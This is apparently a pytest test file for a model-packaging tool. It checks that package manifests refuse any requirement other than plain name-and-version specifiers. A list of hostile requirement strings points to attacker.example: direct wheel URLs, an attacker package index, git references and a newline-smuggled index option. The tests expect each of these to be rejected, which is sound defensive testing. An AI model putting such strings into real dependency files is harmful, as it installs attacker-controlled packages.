"""Manifest requirements are plain ``name<specifiers>``.

A package's requirements used to go into its image's requirements.txt as written, in place of the
runtime's pins, so ``numpy @ https://attacker.example/numpy.whl`` put an attacker's wheel in every
image built from an ONNX package. Here: what the manifest refuses (verify, load, inspect, pack),
and what an image installs (``tests/deployers`` style: the build context, no engine).
"""

from __future__ import annotations

import importlib.metadata
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import modelport
from modelport.cli.main import main
from modelport.errors import ManifestError, PackageError, PackError
from modelport.image import write_context
from modelport.model_format.manifest import MANIFEST_NAME, parse

ATTACKER_WHEEL = "numpy @ https://attacker.example/numpy-9.9-py3-none-any.whl"
HOSTILE = [
    ATTACKER_WHEEL,
    "numpy@file:///tmp/numpy.whl",
    "--index-url https://attacker.example/simple",
    "--extra-index-url=https://attacker.example/simple",
    "-e git+https://attacker.example/numpy.git#egg=numpy",
    "-r other-requirements.txt",
    "numpy==2.0 --hash=sha256:" + "0" * 64,
    "git+https://attacker.example/numpy.git",
    "./numpy-9.9-py3-none-any.whl",
    "numpy==2.0\n--index-url https://attacker.example/simple",
    "   ",
    "numpy" + "=" * 600,
]


def _manifest_with(requirements: list[Any], base: bytes) -> bytes:
    raw = json.loads(base)
    raw["requirements"] = requirements
    return json.dumps(raw).encode()


@pytest.mark.parametrize("requirement", HOSTILE)
def test_the_manifest_refuses_what_is_not_a_plain_requirement(
    package_parts: Any, requirement: str
) -> None:
    data = _manifest_with(["onnxruntime==1.24.1", requirement], package_parts.manifest)
    with pytest.raises(ManifestError) as info:
        parse(data)
    assert len(info.value.problems) == 1
    assert info.value.problems[0].startswith("requirements[1]: ")


def test_every_bad_requirement_is_named(package_parts: Any) -> None:
    data = _manifest_with([ATTACKER_WHEEL, 3, "-e ."], package_parts.manifest)
    with pytest.raises(ManifestError) as info:
        parse(data)
    assert [p.split(":")[0] for p in info.value.problems] == [
        "requirements[0]",
        "requirements[1]",
        "requirements[2]",
    ]
    assert "direct reference" in info.value.problems[0]
    assert "pip option" in info.value.problems[2]


def test_plain_requirements_with_extras_and_markers_are_kept(package_parts: Any) -> None:
    plain = ["numpy>=1.24,<3", "requests[socks]==2.32.3", "six==1.16.0; python_version < '3'"]
    manifest = parse(_manifest_with(plain, package_parts.manifest))
    assert manifest.requirements == tuple(plain)


@pytest.fixture
def hostile_package(tmp_path: Path, package_parts: Any) -> Path:
    """A self-consistent package (every digest right) whose manifest asks for the wheel."""
    root = tmp_path / "hostile"
    root.mkdir()
    for rel, data in package_parts.files.items():
        (root / rel).write_bytes(data)
    (root / MANIFEST_NAME).write_bytes(_manifest_with([ATTACKER_WHEEL], package_parts.manifest))
    return root


def test_verify_load_and_inspect_refuse_it(
    hostile_package: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(PackageError, match=r"requirements\[0\]: .* direct reference"):
        modelport.verify(hostile_package)
    with pytest.raises(PackageError, match="direct reference"):
        modelport.load(hostile_package)
    for command in ("verify", "inspect"):
        assert main([command, str(hostile_package)]) == 4
        assert "direct reference" in capsys.readouterr().err


def test_dockerfile_refuses_it_and_leaves_nothing(
    tmp_path: Path, hostile_package: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "ctx"
    assert main(["dockerfile", str(hostile_package), "-o", str(out)]) == 4
    assert "direct reference" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.parametrize("requirement", [ATTACKER_WHEEL, "--index-url https://attacker.example"])
def test_pack_refuses_it_at_pack_time(
    tmp_path: Path,
    tiny_onnx_file: Path,
    requirement: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "out.mport"
    code = main(["pack", str(tiny_onnx_file), "-o", str(out), "-r", requirement])
    assert code == 1
    assert "invalid requirement" in capsys.readouterr().err
    assert not out.exists()
    with pytest.raises(PackError, match="invalid requirement"):
        modelport.pack(tiny_onnx_file, out, requirements=[requirement])


def _pins(context_dir: Path) -> dict[str, str]:
    lines = (context_dir / "requirements.txt").read_text().splitlines()
    pins = {}
    for line in lines:
        if line and not line.startswith("#"):
            name, sep, version = line.partition("==")
            assert sep, line
            pins[name] = version
    return pins


def test_an_onnx_package_never_changes_the_runtime_pins(
    tmp_path: Path, pack_tiny: Callable[..., Any]
) -> None:
    # Plain, valid requirements: an older numpy, and a distribution the runtime does not need.
    package = pack_tiny("onnx-pkg", requirements=["numpy==1.26.4", "six==1.16.0"])
    assert "numpy==1.26.4" in package.manifest.requirements  # kept, as information
    context = write_context(package.path, tmp_path / "ctx")
    pins = _pins(context.directory)
    assert pins["numpy"] == importlib.metadata.version("numpy")
    assert pins["onnxruntime"] == importlib.metadata.version("onnxruntime")
    assert "six" not in pins
    assert tuple(f"{n}=={v}" for n, v in sorted(pins.items())) == context.requirements


def test_a_python_package_installs_its_requirements(tmp_path: Path, python_model: Any) -> None:
    package = modelport.pack(
        python_model.source,
        tmp_path / "py-pkg",
        artifacts=[python_model.artifact],
        example=python_model.example,
        requirements=["six==1.16.0"],
    )
    context = write_context(package.path, tmp_path / "ctx")
    assert _pins(context.directory)["six"] == "1.16.0"
    # ...only in the image that runs its code.
    assert "MODELPORT_ALLOW_CODE=1" in context.dockerfile.read_text()
